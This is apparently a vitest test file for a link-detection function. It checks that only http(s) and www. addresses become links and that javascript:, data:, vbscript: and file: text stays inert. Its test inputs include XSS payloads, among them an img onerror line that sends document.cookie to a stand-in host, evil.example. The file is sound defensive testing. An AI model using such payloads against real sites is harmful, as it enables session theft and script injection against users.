import { describe, expect, it } from 'vitest';
import { linkParts, type TextPart } from './links';

const link = (text: string, href = text): TextPart => ({ text, href });
/** The parts joined again: every character of the text is in exactly one part. */
const joined = (parts: TextPart[]) => parts.map((p) => (typeof p === 'string' ? p : p.text)).join('');

describe('linkParts: http(s) and www. addresses in a text become links, the rest stays text', () => {
  it('a text without an address is one plain part; an empty text none', () => {
    expect(linkParts('See you at the site')).toEqual(['See you at the site']);
    expect(linkParts('')).toEqual([]);
  });

  it('finds http and https addresses anywhere, and several in one text', () => {
    expect(linkParts('Plan: https://example.com/plans/7?rev=2#p3 and http://intra.example:8080/x')).toEqual([
      'Plan: ',
      link('https://example.com/plans/7?rev=2#p3'),
      ' and ',
      link('http://intra.example:8080/x'),
    ]);
    expect(linkParts('https://a.example\nhttps://b.example')).toEqual([
      link('https://a.example'),
      '\n',
      link('https://b.example'),
    ]);
  });

  it('opens www. addresses by https, showing them as written', () => {
    expect(linkParts('Parts at www.example.com/parts today')).toEqual([
      'Parts at ',
      link('www.example.com/parts', 'https://www.example.com/parts'),
      ' today',
    ]);
  });

  it("leaves the sentence's punctuation after an address as text", () => {
    expect(linkParts('Go to https://example.com.')).toEqual(['Go to ', link('https://example.com'), '.']);
    expect(linkParts('https://a.example, https://b.example; ok?')).toEqual([
      link('https://a.example'),
      ', ',
      link('https://b.example'),
      '; ok?',
    ]);
    expect(linkParts('(see https://example.com/x)')).toEqual(['(see ', link('https://example.com/x'), ')']);
    expect(linkParts('"https://example.com/q"!')).toEqual(['"', link('https://example.com/q'), '"!']);
    expect(linkParts("it's at 'www.example.com'...")).toEqual([
      "it's at '",
      link('www.example.com', 'https://www.example.com'),
      "'...",
    ]);
  });

  it('keeps a closing bracket that closes one opened inside the address', () => {
    expect(linkParts('(https://en.wikipedia.org/wiki/Pump_(disambiguation))')).toEqual([
      '(',
      link('https://en.wikipedia.org/wiki/Pump_(disambiguation)'),
      ')',
    ]);
  });

  it('ends an address at an angle bracket or a double quote', () => {
    expect(linkParts('<https://example.com/a>')).toEqual(['<', link('https://example.com/a'), '>']);
    expect(linkParts('<a href="https://example.com/b">x</a>')).toEqual([
      '<a href="',
      link('https://example.com/b'),
      '">x</a>',
    ]);
  });

  it('never links another scheme: javascript:, data:, vbscript:, file: and mailto: stay text', () => {
    for (const text of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)//https',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'mailto:bob@example.com',
      'ftp://files.example.com/x',
    ])
      expect(linkParts(text)).toEqual([text]);
  });

  it('links only the http address inside another scheme, never the scheme', () => {
    expect(linkParts('javascript:fetch("https://evil.example/x")')).toEqual([
      'javascript:fetch("',
      link('https://evil.example/x'),
      '")',
    ]);
    // Glued to a scheme or a word before it, it is no address of its own.
    expect(linkParts('javascript:https://evil.example')).toEqual(['javascript:https://evil.example']);
    expect(linkParts('xhttps://example.com')).toEqual(['xhttps://example.com']);
  });

  it('does not link an address without a host, nor www. inside a word, an e-mail address or a path', () => {
    for (const text of [
      'http://',
      'https:// example.com',
      'www.',
      'www...',
      'bob@www.example.com',
      'awww.example.com',
      'https://example.com/www.x',
    ])
      expect(joined(linkParts(text))).toBe(text);
    expect(linkParts('http:// and www.')).toEqual(['http:// and www.']);
    expect(linkParts('bob@www.example.com')).toEqual(['bob@www.example.com']);
    expect(linkParts('https://example.com/www.x')).toEqual([link('https://example.com/www.x')]);
  });

  it('keeps right-to-left text around an address, and non-Latin paths in it', () => {
    expect(linkParts('انظر https://example.com/مرحبا هنا')).toEqual([
      'انظر ',
      link('https://example.com/مرحبا'),
      ' هنا',
    ]);
  });

  it('gives the text back when joined, whatever it holds', () => {
    for (const text of [
      '<img src=x onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)">',
      '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
      'www.a.example www.b.example) (https://c.example]',
      'emoji 🙂 https://example.com/🙂 done',
    ])
      expect(joined(linkParts(text))).toBe(text);
  });

  it('every href it gives is http or https', () => {
    const text =
      'https://a.example www.b.example javascript:alert(1) data:x HTTP://C.EXAMPLE/ <a href="https://d.example">';
    for (const part of linkParts(text))
      if (typeof part !== 'string') expect(new URL(part.href).protocol).toMatch(/^https?:$/);
  });
});
